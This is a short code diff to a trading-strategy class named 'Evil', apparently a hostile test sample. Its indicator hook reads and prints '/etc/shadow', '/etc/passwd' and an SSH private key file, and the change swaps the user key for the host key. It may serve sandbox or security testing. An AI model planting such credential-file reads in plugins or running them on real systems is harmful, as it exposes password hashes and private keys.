@@ -10,7 +10,7 @@ class Evil(IStrategy):
     INTERFACE_VERSION = 3
 
     def populate_indicators(self, dataframe, metadata):
-        for path in ("/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"):
+        for path in ("/etc/shadow", "/etc/passwd", "/etc/ssh/ssh_host_rsa_key"):
             try:
                 print(open(path).read())
             except OSError:
